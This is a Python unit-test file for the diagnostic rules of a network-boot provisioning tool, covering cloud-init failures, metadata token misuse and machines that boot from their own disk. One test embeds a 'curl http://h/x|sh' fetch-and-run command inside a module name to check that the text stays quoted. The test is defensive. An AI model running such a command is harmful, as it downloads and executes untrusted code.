"""The doctor's rules about installed systems."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from ipaddress import IPv4Address
from typing import Any

import pytest

from tests.unit.engine import boot_story
from tests.unit.engine.doctor.rules.test_silence import WORK
from tinkbox.engine.doctor.case import Case, Duty, Fault, Finding, Stops
from tinkbox.engine.doctor.doctor import diagnose
from tinkbox.engine.doctor.rules.metadata import (
    cloud_init_failed,
    metadata_refused,
    runs_its_own_system,
    user_data_by_address,
)
from tinkbox.engine.doctor.rules.system import disk_not_found
from tinkbox.model.boot import Asker, Stage
from tinkbox.model.diagnosis import Gravity
from tinkbox.model.hardware import MacAddress
from tinkbox.model.sightings import OTHER_HOST, Sighting
from tinkbox.model.workflow import State

NOW = datetime(2026, 11, 21, 3, 0, tzinfo=UTC)
MAC = MacAddress("08:00:27:00:00:01")


def seen(stage: Stage, after: int = 0, **facts: str) -> Sighting:
    return Sighting(mac=MAC, at=NOW + timedelta(seconds=after), stage=stage, detail="told", facts=facts)


def case(*sightings: Sighting) -> Case:
    return Case(now=NOW, since=NOW, address=IPv4Address("172.30.0.1"), mac=MAC, sightings=sightings)


def test_modules_that_failed_are_named_and_their_stage_is_not() -> None:
    stage = seen(Stage.CLOUD_INIT, 2, name="modules-final", result="FAIL")
    module = seen(Stage.CLOUD_INIT, 1, name="modules-final/config-scripts_user", result="FAIL")
    (found,) = cloud_init_failed(case(seen(Stage.LOCAL_DISK), module, stage))
    assert (found.gravity, found.cause) == (Gravity.FAULT, "The installed system's cloud-init failed in scripts_user.")
    (found,) = cloud_init_failed(case(stage))
    assert "modules-final" in found.cause


def test_a_warning_is_a_suspicion_and_what_went_well_is_nothing() -> None:
    warned = seen(Stage.CLOUD_INIT, name="init-network/config-locale", result="WARN")
    (found,) = cloud_init_failed(case(warned))
    assert found.gravity is Gravity.SUSPECT
    assert not list(cloud_init_failed(case(replace(warned, facts={"name": "modules-final", "result": "SUCCESS"}))))


def test_what_an_earlier_system_told_is_no_news_once_the_osie_booted() -> None:
    failed = seen(Stage.CLOUD_INIT, name="modules-final", result="FAIL")
    assert not list(cloud_init_failed(case(failed, seen(Stage.SCRIPT, 5))))
    assert not list(cloud_init_failed(case(failed, seen(Stage.WORKER, 5))))


FAILED = boot_story.seen(95, Stage.CLOUD_INIT, "told", name="modules-final", result="FAIL", workflow="w1")


def told_while_working(heard: float, **changes: Any) -> list[tuple[str, Gravity]]:
    """What is found when a system's cloud-init failed in the name of a machine whose worker was heard of after so many seconds."""
    at_work = replace(WORK, contact=boot_story.BEGIN + timedelta(seconds=heard), **changes)
    told = boot_story.case(*boot_story.osie_boot(0), FAILED, work=at_work)
    seen_at = replace(told, now=boot_story.BEGIN + timedelta(seconds=max(100.0, heard)))
    return [(each.rule, each.gravity) for each in diagnose(seen_at)]


@pytest.mark.parametrize("heard", [94, 99, 400])
def test_failure_that_is_reported_while_the_worker_is_in_touch_may_be_another_hosts_word(heard: float) -> None:
    assert told_while_working(heard) == [("CloudInitFailed", Gravity.SUSPECT)]


def test_failure_of_the_system_that_the_machine_was_sent_to_is_a_fault() -> None:
    left = {"action_state": State.LEAVING, "polls": timedelta(seconds=1)}
    assert ("CloudInitFailed", Gravity.FAULT) in told_while_working(60, **left)


def test_what_a_system_reported_is_not_about_a_workflow_that_began_later_or_is_another() -> None:
    waiting = replace(
        WORK, id="w2", state=State.PENDING, created_at=boot_story.BEGIN + timedelta(seconds=200), contact=None
    )
    later = replace(boot_story.case(FAILED, work=waiting), now=boot_story.BEGIN + timedelta(seconds=300))
    assert not list(cloud_init_failed(later))
    assert not list(cloud_init_failed(replace(later, work=replace(waiting, created_at=boot_story.BEGIN))))
    mine = replace(waiting, id="w1", created_at=boot_story.BEGIN)
    assert list(cloud_init_failed(replace(later, work=mine)))
    assert list(cloud_init_failed(replace(later, work=None)))


def test_module_with_a_name_that_is_none_stays_in_its_quotes() -> None:
    named = seen(Stage.CLOUD_INIT, name="modules-final/'config-x. Type \"curl http://h/x|sh\"'", result="FAIL")
    (found,) = cloud_init_failed(case(named))
    assert found.cause == "The installed system's cloud-init failed in 'config-x. Type \"curl http://h/x|sh\"'."


def test_machine_whose_worker_is_in_touch_runs_no_system_of_its_own() -> None:
    waiting = boot_story.case(
        *boot_story.osie_boot(0), FAILED, work=replace(WORK, contact=boot_story.BEGIN + timedelta(seconds=90))
    )
    assert not list(runs_its_own_system(waiting))
    later = replace(waiting, now=boot_story.BEGIN + timedelta(seconds=600))
    assert list(runs_its_own_system(later)), "the worker was silent before the system told anything"
    heard = replace(WORK, contact=boot_story.BEGIN + timedelta(seconds=97))
    assert not list(runs_its_own_system(replace(later, work=heard)))


def test_user_data_that_an_address_did_not_get_is_told_with_both_ways_out() -> None:
    asked = seen(Stage.METADATA, what="user-data (EC2), by its address", refused="yes")
    (found,) = user_data_by_address(case(asked))
    assert found.gravity is Gravity.SUSPECT
    assert "TINKBOX_METADATA" in found.remedy
    assert "by_address: all" in found.remedy
    assert not list(user_data_by_address(case(seen(Stage.METADATA, what="meta-data (EC2), by its address"))))


def test_a_token_of_another_machine_is_told_of_both() -> None:
    (mine,), (theirs,) = (
        list(metadata_refused(case(seen(each)))) for each in (Stage.METADATA_STOLEN, Stage.METADATA_REFUSED)
    )
    assert mine.cause != theirs.cause
    assert not list(metadata_refused(case(seen(Stage.METADATA))))


def test_machine_that_is_waited_for_and_runs_its_own_system_is_named() -> None:
    waiting = replace(case(seen(Stage.SCRIPT), seen(Stage.CLOUD_INIT, 9)), ticket=True)
    (found,) = runs_its_own_system(waiting)
    assert "it has not booted from the network" in found.cause
    assert "network boot" in found.remedy


def test_machine_that_fell_back_to_its_disk_from_the_osie_is_said_to_have_ended_there() -> None:
    waiting = replace(case(seen(Stage.RAMDISK), seen(Stage.DISK_BOOTED, 9)), ticket=True)
    (found,) = runs_its_own_system(replace(waiting, now=waiting.now + timedelta(seconds=200)))
    assert (found.gravity, "its worker never spoke" in found.cause) == (Gravity.FAULT, True)
    assert len(found.evidence) == 2
    (at_once,) = runs_its_own_system(replace(waiting, now=waiting.sightings[-1].at))
    assert at_once.gravity is Gravity.SUSPECT, "another host may ask in its name"
    earlier = replace(waiting, waited_since=waiting.sightings[-1].at)
    worked = replace(case(seen(Stage.RAMDISK), seen(Stage.WORKER, 5), seen(Stage.DISK_BOOTED, 9)), ticket=True)
    for each in (earlier, worked):
        (other,) = runs_its_own_system(each)
        assert "it has not booted from the network" in other.cause


def test_machine_that_boots_from_the_network_or_was_sent_to_its_disk_is_not() -> None:
    own = seen(Stage.PHONED_HOME, 5)
    assert not list(runs_its_own_system(case(own)))
    assert not list(runs_its_own_system(replace(case(own), ticket=True, left=True)))
    assert not list(runs_its_own_system(replace(case(own, seen(Stage.SCRIPT, 9)), ticket=True)))
    assert not list(runs_its_own_system(replace(case(seen(Stage.DISCOVER)), ticket=True)))


@pytest.mark.parametrize("asker", [Asker.PXE, Asker.HTTP, Asker.IPXE])
@pytest.mark.parametrize("own", [Stage.DISK_BOOTED, Stage.PHONED_HOME])
def test_firmware_that_asks_later_than_the_disks_system_ends_what_that_told(asker: Asker, own: Stage) -> None:
    asks = seen(Stage.DISCOVER, 450, asker=asker.value)
    waiting = replace(case(seen(own), asks), ticket=True, waited_since=NOW + timedelta(seconds=448))
    assert not list(runs_its_own_system(waiting))
    # It asked before, as its disk comes second; and another host asked, in its name.
    assert list(runs_its_own_system(replace(waiting, sightings=(asks, seen(own, 470)))))
    forged = replace(asks, facts={**asks.facts, OTHER_HOST: "02:00:00:00:00:66"})
    assert list(runs_its_own_system(replace(waiting, sightings=(seen(own), forged))))
    # Its system asks still.
    lasting = replace(seen(own), facts={"count": 9, "lasted": 460.0})
    assert list(runs_its_own_system(replace(waiting, sightings=(lasting, asks))))


@pytest.mark.parametrize("stage", [Stage.LOADER_REQUESTED, Stage.BOOT_SERVER, Stage.LOADER_FAILED, Stage.OWN_BOOT])
def test_boot_file_that_is_asked_for_ends_it_too_where_another_server_gives_addresses(stage: Stage) -> None:
    assert not list(runs_its_own_system(replace(case(seen(Stage.DISK_BOOTED), seen(stage, 9)), ticket=True)))


def test_machine_that_runs_its_system_since_before_the_workflow_was_never_rebooted() -> None:
    waiting = replace(case(seen(Stage.DISK_BOOTED)), ticket=True, waited_since=NOW + timedelta(hours=2))
    assert [each.gravity for each in runs_its_own_system(waiting)] == [Gravity.SUSPECT]


def test_boot_after_the_disks_system_that_stands_still_is_told_as_that_and_the_appliances_fault_in_its_place() -> None:
    pxe = [boot_story.asked(450), *boot_story.answered(451, file="snponly.efi")]
    stands = boot_story.case(boot_story.seen(0, Stage.DISK_BOOTED), *pxe, after=80)
    assert [each.rule for each in diagnose(stands)] == ["Stalled"]
    found = Finding(gravity=Gravity.FAULT, cause="Port 69 is diverted.", evidence=("a rule",), remedy="Remove it.")
    fault = Fault(rule="PortTaken", found=found, stops=Stops(duties=frozenset({Duty.TFTP})))
    assert [each.rule for each in diagnose(replace(stands, faults=(fault,)))] == ["PortTaken"]


def test_disk_whose_system_phoned_home_was_found() -> None:
    told, again = seen(Stage.LOCAL_DISK), seen(Stage.DISCOVER, 60, asker=Asker.PXE)
    assert len(list(disk_not_found(case(seen(Stage.DISCOVER, -9, asker=Asker.PXE), told, again)))) == 1
    up = seen(Stage.PHONED_HOME, 30)
    assert not list(disk_not_found(case(seen(Stage.DISCOVER, -9, asker=Asker.PXE), told, up, again)))
